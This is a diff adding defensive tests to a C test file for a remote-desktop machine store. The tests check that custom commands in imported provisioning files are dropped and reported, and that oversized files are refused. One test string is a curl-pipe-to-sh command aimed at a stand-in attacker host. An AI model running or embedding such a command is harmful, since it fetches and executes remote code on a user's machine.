@@ -1,5 +1,6 @@
 /* test-machine-store.c: machines.json — round trip, mode, atomic saves, broken files never
  * overwritten, saving on an idle after changes, sorting, provisioning files. */
+#include <fcntl.h>
 #include <glib/gstdio.h>
 #include <signal.h>
 #include <string.h>
@@ -459,6 +460,7 @@ test_provisioning (Fixture *fixture, gconstpointer data)
   g_autofree char *contents = NULL;
   g_autofree char *original_json = NULL;
   g_autofree char *imported_json = NULL;
+  g_autofree char *notice = NULL;
   g_autoptr (JsonNode) node = json_node_new (JSON_NODE_OBJECT);
 
   cv_machine_set_last_used (machine, 1700000000);
@@ -470,9 +472,10 @@ test_provisioning (Fixture *fixture, gconstpointer data)
   g_assert_null (strstr (contents, "last_used"));
   g_assert_null (strstr (contents, "password"));
 
-  imported = cv_machine_store_import (file, &error);
+  imported = cv_machine_store_import (file, &notice, &error);
   g_assert_no_error (error);
   g_assert_nonnull (imported);
+  g_assert_null (notice);
   g_assert_cmpstr (cv_machine_get_id (imported), !=, cv_machine_get_id (machine));
   g_assert_cmpint (cv_machine_get_last_used (imported), ==, 0);
   json_node_take_object (node, cv_machine_to_json (machine, TRUE));
@@ -515,7 +518,7 @@ test_provisioning_refused (Fixture *fixture, gconstpointer data)
       g_autoptr (CvMachine) machine = NULL;
 
       write_file (path, cases[i].json);
-      machine = cv_machine_store_import (file, &error);
+      machine = cv_machine_store_import (file, NULL, &error);
       g_assert_null (machine);
       g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_INVALID);
       g_test_message ("%s", error->message);
@@ -524,9 +527,143 @@ test_provisioning_refused (Fixture *fixture, gconstpointer data)
         g_error ("%s: expected “%s” in “%s”", cases[i].json, cases[i].expected, error->message);
     }
 
-  g_assert_null (cv_machine_store_import (missing, &missing_error));
+  g_assert_null (cv_machine_store_import (missing, NULL, &missing_error));
   g_assert_error (missing_error, CV_APP_ERROR, CV_APP_ERROR_FAILED);
   g_assert_nonnull (strstr (missing_error->message, "missing.culvert"));
+}
+
+/* A custom command from a provisioning file is someone else's program run on Connect: it
+ * is dropped on import, the service kept (opening nothing), and the notice says what the
+ * file wanted.  The machines' own file keeps its commands (the person wrote them). */
+static void
+test_provisioning_custom_command (Fixture *fixture, gconstpointer data)
+{
+  g_autoptr (CvMachine) machine = new_machine ("Handed out");
+  g_autoptr (CvMachineService) rdp = cv_machine_service_new (CV_SERVICE_PRESET_RDP);
+  g_autoptr (CvMachineService) vnc = NULL;
+  g_autoptr (CvMachineService) imported_vnc = NULL;
+  g_autoptr (CvMachineService) imported_rdp = NULL;
+  g_autofree char *path = g_build_filename (fixture->dir, "handed-out.culvert", NULL);
+  g_autoptr (GFile) file = g_file_new_for_path (path);
+  g_autoptr (GError) error = NULL;
+  g_autoptr (CvMachine) imported = NULL;
+  g_autoptr (CvMachine) reloaded = NULL;
+  g_autofree char *notice = NULL;
+  const char *evil = "sh -c 'curl -s http://attacker.example/x | sh; echo {port}'";
+
+  vnc = g_list_model_get_item (cv_machine_get_services (machine), 0);
+  cv_machine_service_set_launcher (vnc, CV_LAUNCHER_CUSTOM);
+  cv_machine_service_set_custom_command (vnc, evil);
+  /* A command kept beside another launcher is dropped too: "Custom" would bring it back. */
+  cv_machine_service_set_custom_command (rdp, "xfreerdp /v:{host}:{port}");
+  cv_machine_service_set_launcher (rdp, CV_LAUNCHER_NONE);
+  cv_machine_add_service (machine, rdp);
+  g_assert_true (cv_machine_store_export (machine, file, &error));
+  g_assert_no_error (error);
+
+  imported = cv_machine_store_import (file, &notice, &error);
+  g_assert_no_error (error);
+  g_assert_nonnull (imported);
+  g_assert_nonnull (notice);
+  g_test_message ("%s", notice);
+  g_assert_nonnull (strstr (notice, evil));
+  g_assert_nonnull (strstr (notice, "xfreerdp /v:{host}:{port}"));
+  g_assert_nonnull (strstr (notice, "Culvert runs no command from a file"));
+  g_assert_cmpuint (g_list_model_get_n_items (cv_machine_get_services (imported)), ==, 2);
+  imported_vnc = g_list_model_get_item (cv_machine_get_services (imported), 0);
+  imported_rdp = g_list_model_get_item (cv_machine_get_services (imported), 1);
+  g_assert_cmpint (cv_machine_service_get_launcher (imported_vnc), ==, CV_LAUNCHER_NONE);
+  g_assert_null (cv_machine_service_get_custom_command (imported_vnc));
+  g_assert_cmpint (cv_machine_service_get_launcher (imported_rdp), ==, CV_LAUNCHER_NONE);
+  g_assert_null (cv_machine_service_get_custom_command (imported_rdp));
+  /* Without a place for the notice, the commands are dropped all the same. */
+  g_clear_object (&imported);
+  imported = cv_machine_store_import (file, NULL, &error);
+  g_assert_no_error (error);
+  g_clear_object (&imported_vnc);
+  imported_vnc = g_list_model_get_item (cv_machine_get_services (imported), 0);
+  g_assert_null (cv_machine_service_get_custom_command (imported_vnc));
+
+  /* The person's own machines keep theirs. */
+  cv_machine_store_add (fixture->store, machine);
+  g_assert_true (cv_machine_store_save (fixture->store, &error));
+  g_assert_no_error (error);
+  {
+    g_autoptr (CvMachineStore) again = cv_machine_store_new (fixture->path);
+
+    g_assert_true (cv_machine_store_load (again, &error));
+    g_assert_no_error (error);
+    reloaded = g_object_ref (cv_machine_store_find (again, cv_machine_get_id (machine)));
+    g_assert_finalize_object (g_steal_pointer (&again));
+  }
+  g_clear_object (&vnc);
+  vnc = g_list_model_get_item (cv_machine_get_services (reloaded), 0);
+  g_assert_cmpint (cv_machine_service_get_launcher (vnc), ==, CV_LAUNCHER_CUSTOM);
+  g_assert_cmpstr (cv_machine_service_get_custom_command (vnc), ==, evil);
+  cv_machine_store_remove (fixture->store, machine);
+}
+
+/* A file of @size bytes (sparse: nothing is written). */
+static void
+make_sparse_file (const char *path, goffset size)
+{
+  int fd = g_open (path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
+
+  g_assert_cmpint (fd, >=, 0);
+  g_assert_cmpint (ftruncate (fd, size), ==, 0);
+  g_assert_cmpint (close (fd), ==, 0);
+}
+
+/* A huge file, or one without end, is refused without being read into memory. */
+static void
+test_provisioning_too_large (Fixture *fixture, gconstpointer data)
+{
+  g_autofree char *path = g_build_filename (fixture->dir, "huge.culvert", NULL);
+  g_autoptr (GFile) file = g_file_new_for_path (path);
+  g_autoptr (GFile) endless = g_file_new_for_path ("/dev/zero");
+  g_autoptr (GError) error = NULL;
+  gint64 start = g_get_monotonic_time ();
+  g_autofree char *notice = NULL;
+
+  make_sparse_file (path, G_GINT64_CONSTANT (2) * 1024 * 1024 * 1024);
+  g_assert_null (cv_machine_store_import (file, &notice, &error));
+  g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_INVALID);
+  g_test_message ("%s", error->message);
+  g_assert_true (g_str_has_prefix (error->message, path));
+  g_assert_nonnull (strstr (error->message, "is larger than a provisioning file can be"));
+  g_assert_null (notice);
+  /* Refused by its size: not read. */
+  g_assert_cmpint (g_get_monotonic_time () - start, <, G_USEC_PER_SEC);
+  g_clear_error (&error);
+
+  /* Just over the bound, read and refused; just at it, read (and not JSON). */
+  make_sparse_file (path, CV_PROVISIONING_FILE_MAX_SIZE + 1);
+  g_assert_null (cv_machine_store_import (file, NULL, &error));
+  g_assert_nonnull (strstr (error->message, "is larger than a provisioning file can be"));
+  g_clear_error (&error);
+  make_sparse_file (path, CV_PROVISIONING_FILE_MAX_SIZE);
+  g_assert_null (cv_machine_store_import (file, NULL, &error));
+  g_assert_null (strstr (error->message, "is larger than"));
+  g_clear_error (&error);
+
+  /* No size to ask: what is read is counted. */
+  g_assert_null (cv_machine_store_import (endless, NULL, &error));
+  g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_INVALID);
+  g_assert_nonnull (strstr (error->message, "is larger than a provisioning file can be"));
+  g_clear_error (&error);
+
+  /* The machines' own file has its bound too, and is kept as it is. */
+  g_assert_cmpint (g_mkdir_with_parents (fixture->dir, 0700), ==, 0);
+  {
+    g_autofree char *dir = g_path_get_dirname (fixture->path);
+
+    g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
+  }
+  make_sparse_file (fixture->path, CV_MACHINE_STORE_FILE_MAX_SIZE + 1);
+  g_assert_false (cv_machine_store_load (fixture->store, &error));
+  g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_INVALID);
+  g_test_message ("%s", error->message);
+  g_assert_nonnull (strstr (error->message, "is larger than"));
 }
 
 int
@@ -545,6 +682,8 @@ main (int argc, char *argv[])
   ADD ("broken-file", test_broken_file);
   ADD ("provisioning", test_provisioning);
   ADD ("provisioning-refused", test_provisioning_refused);
+  ADD ("provisioning-custom-command", test_provisioning_custom_command);
+  ADD ("provisioning-too-large", test_provisioning_too_large);
 #undef ADD
 
   return cv_app_test_finish (test_dir, g_test_run ());
